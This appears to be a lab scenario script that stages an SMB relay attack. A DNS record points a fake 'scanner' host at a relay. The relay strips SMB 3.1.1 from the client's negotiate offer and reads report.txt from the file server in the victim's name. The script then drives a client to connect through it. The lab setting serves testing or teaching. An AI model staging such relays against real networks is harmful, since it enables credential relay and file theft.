# scanner is a name in DNS that leads to 192.0.2.20, where somebody relays what comes to FILES and, before
# the victim has its answer, reads a file in the victim's name. The relay takes SMB 3.1.1 out of the
# client's offer, for there it could not pass the logon on.
lab_prepare() {
	domain_dns SCANNER A 192.0.2.20
	daemon proxy relay.out /usr/bin/python3 "$RECORD_DIR/relay.py" --listen 192.0.2.20 \
		--server "$MEMBER_IP" \
		--rule 'request NEGOTIATE: dialects 0x0202+0x0210+0x0300+0x0302, guid 66666666666666666666666666666666' \
		--rule 'response SESSION_SETUP status=0x00000000: loot docs report.txt'
	wait_port proxy any 445
}

lab_fault() {
	desk client smbclient "//$FILES_NAME/docs" -U "alice%$USER_PASSWORD" --use-kerberos=desired -c ls
	desk_pause 3
	desk client smbclient "//scanner.$DNSDOMAIN/docs" -U "alice%$USER_PASSWORD" --use-kerberos=desired -c ls
	desk_pause 4
	desk client smbclient "//$FILES_NAME/docs" -U "alice%$USER_PASSWORD" --use-kerberos=desired -c ls
}
